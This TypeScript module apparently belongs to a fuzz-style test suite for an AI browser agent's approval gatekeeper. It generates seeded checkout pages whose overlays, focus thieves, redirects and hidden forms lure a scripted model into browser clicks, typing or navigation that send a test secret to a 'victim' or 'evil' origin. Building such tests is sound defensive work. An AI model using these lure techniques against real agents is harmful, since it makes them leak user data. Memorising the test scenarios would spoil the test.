/**
 * One generated attack: which primitives make the page, which tool the (scripted) model is lured
 * into calling, in which approval mode, with or without an allow rule for the page's site. Drawn
 * from a seed alone; rendered into pages on the corpus's origins.
 */
import type { ApprovalMode } from '../../../../src/protocol';
import type { OriginKey, Origins } from './origins';
import {
  type HelperPage,
  PRIMITIVE_KINDS,
  PRIMITIVES,
  type Piece,
  type PrimitiveKind,
  type PrimitiveUse,
  htmlDocument,
} from './primitives';
import { seededRng } from './rng';

/**
 * What the lured model calls. `@lure` and `@drop` are refs found by name in its snapshot;
 * `@href` and `@typed` are what the page's primitives offer (or a plain default); `@x`, `@y` the
 * centre of the lure's slot in the viewport, as a model reading a screenshot would click it.
 */
export const TOOL_PLANS = {
  click: { name: 'browser_click', args: { ref: '@lure' } },
  'mouse-click': { name: 'browser_mouse', args: { action: 'click', ref: '@lure' } },
  'mouse-click-at': { name: 'browser_mouse', args: { action: 'click', x: '@x', y: '@y' } },
  'mouse-double': { name: 'browser_mouse', args: { action: 'double_click', ref: '@lure' } },
  'mouse-right': { name: 'browser_mouse', args: { action: 'right_click', ref: '@lure' } },
  'mouse-move': { name: 'browser_mouse', args: { action: 'move', ref: '@lure' } },
  'mouse-drag': { name: 'browser_mouse', args: { action: 'drag', ref: '@lure', toRef: '@drop' } },
  hover: { name: 'browser_hover', args: { ref: '@lure' } },
  'scroll-to': { name: 'browser_scroll', args: { ref: '@lure' } },
  'scroll-page': { name: 'browser_scroll', args: { direction: 'down' } },
  'keyboard-text': { name: 'browser_keyboard', args: { text: 'hello' } },
  'keyboard-enter': { name: 'browser_keyboard', args: { keys: ['Enter'] } },
  'keyboard-on-lure': { name: 'browser_keyboard', args: { ref: '@lure', text: '@typed\r' } },
  'press-enter-on-lure': { name: 'browser_press_key', args: { key: 'Enter', ref: '@lure' } },
  'press-key': { name: 'browser_press_key', args: { key: 'd' } },
  type: { name: 'browser_type', args: { ref: '@lure', text: '@typed', submit: true } },
  'go-back': { name: 'browser_go_back', args: {} },
  navigate: { name: 'browser_navigate', args: { url: '@href' } },
  'tab-open': { name: 'browser_tab_open', args: { url: '@href' } },
} as const;
export type ToolPlanKey = keyof typeof TOOL_PLANS;
export const TOOL_PLAN_KEYS = Object.keys(TOOL_PLANS) as ToolPlanKey[];

/** Trusted input (through the debugger) is L2; the Gatekeeper's ask mode asks for it every time. */
export const levelOf = (tool: string): 'L1' | 'L2' =>
  tool === 'browser_mouse' || tool === 'browser_keyboard' ? 'L2' : 'L1';

/** Which primitives a tool is most likely to fall for: the first primitive is drawn from these. */
const AFFINITY: Record<ToolPlanKey, PrimitiveKind[]> = {
  click: [
    'label',
    'svg-link',
    'area-link',
    'shadow-link',
    'form',
    'redirect',
    'dom-swap',
    'overlay-frame',
  ],
  'mouse-click': ['overlay-frame', 'label', 'svg-link', 'shadow-link', 'form', 'dom-swap'],
  'mouse-click-at': ['overlay-frame', 'area-link', 'svg-link', 'label', 'dom-swap'],
  'mouse-double': ['overlay-frame', 'dom-swap'],
  'mouse-right': ['overlay-frame', 'beacon-observer'],
  'mouse-move': ['beacon-observer', 'dom-swap', 'overlay-frame'],
  'mouse-drag': ['drag-drop'],
  hover: ['beacon-observer', 'dom-swap'],
  'scroll-to': ['beacon-observer'],
  'scroll-page': ['beacon-observer'],
  'keyboard-text': ['focus-thief', 'beacon-observer'],
  'keyboard-enter': ['focus-thief'],
  'keyboard-on-lure': ['focus-thief', 'form', 'redirect'],
  'press-enter-on-lure': ['label', 'svg-link', 'shadow-link', 'form', 'redirect'],
  'press-key': ['focus-thief', 'beacon-observer'],
  type: ['form', 'focus-thief', 'redirect'],
  'go-back': ['history'],
  navigate: ['redirect'],
  'tab-open': ['redirect'],
};

export interface Attack {
  seed: number;
  tool: ToolPlanKey;
  mode: ApprovalMode;
  /** Whether the page's own site (shop) has an allow rule. Nothing else ever has one. */
  allowShop: boolean;
  dest: 'victim' | 'evil';
  primitives: PrimitiveUse[];
}

export function generateAttack(seed: number): Attack {
  const rng = seededRng(seed);
  const tool = rng.pick(TOOL_PLAN_KEYS);
  const mode: ApprovalMode = rng.chance(0.5) ? 'act' : 'ask';
  const allowShop = rng.chance(0.6);
  const dest = rng.chance(0.75) ? 'victim' : 'evil';
  const kinds: PrimitiveKind[] = [rng.pick(AFFINITY[tool])];
  const extra = rng.int(3);
  for (let i = 0; i < extra; i++) {
    const k = rng.pick(PRIMITIVE_KINDS);
    if (!kinds.includes(k)) kinds.push(k);
  }
  const primitives = kinds.map((kind) => ({ kind, variant: rng.pick(PRIMITIVES[kind].variants) }));
  return { seed, tool, mode, allowShop, dest, primitives };
}

export interface RenderedAttack {
  /** The attack page on shop, then every helper page. */
  pages: HelperPage[];
  start: string;
  history: string[];
  href: string;
  typed: string;
}

const DEFAULT_LURE = (secret: string) =>
  `<form method="post" action="/save"><input type="hidden" name="d" value="${secret}"><button id="lure" style="width:200px;height:60px">Continue</button></form>`;

export function secretOf(attack: Attack): string {
  return `S3CR3T${attack.seed.toString(36)}`;
}

/** The attack's pages, under `/a/<id>` on each origin (ids make every rendering's paths fresh). */
export function renderAttack(attack: Attack, origins: Origins, id: string): RenderedAttack {
  const base = `/a/${id}`;
  const secret = secretOf(attack);
  const ctx = { origins, base, secret, dest: attack.dest };
  const pieces: Piece[] = attack.primitives.map((p) => PRIMITIVES[p.kind].render(p.variant, ctx));
  const lure = pieces.find((p) => p.lure)?.lure ?? DEFAULT_LURE(secret);
  const join = (f: (p: Piece) => string | undefined) => pieces.map((p) => f(p) ?? '').join('');
  const shop = htmlDocument(
    'Checkout',
    `<h1>Checkout</h1><p>Press Continue to finish.</p><div style="position:relative;margin:20px;width:640px;height:100px"><div id="slot" style="position:absolute;left:0;top:0;width:200px;height:60px">${lure}</div>${join((p) => p.overlay)}</div><div>${join((p) => p.body)}</div>${join((p) => (p.script ? `<script>${p.script}</script>` : ''))}`,
  );
  const helpers = new Map<string, HelperPage>();
  for (const p of pieces) for (const h of p.pages ?? []) helpers.set(`${h.origin}${h.path}`, h);
  const start = `${origins.shop}${base}/checkout.html`;
  const dest = `${origins[attack.dest]}/act?d=${encodeURIComponent(secret)}`;
  return {
    pages: [
      { origin: 'shop' as OriginKey, path: `${base}/checkout.html`, html: shop },
      ...helpers.values(),
    ],
    start,
    history: pieces.flatMap((p) => p.history ?? []),
    href: pieces.find((p) => p.href)?.href ?? dest,
    typed: pieces.find((p) => p.typed)?.typed ?? 'hello',
  };
}

/** One line that says what the attack is (for reports and shrunk failures). */
export function describeAttack(a: Attack): string {
  const prims = a.primitives.map((p) => `${p.kind}:${p.variant}`).join(' + ') || '(bare page)';
  return `seed ${a.seed}: ${a.tool} in ${a.mode} mode, shop ${a.allowShop ? 'allowed' : 'not allowed'}, aim ${a.dest}; ${prims}`;
}
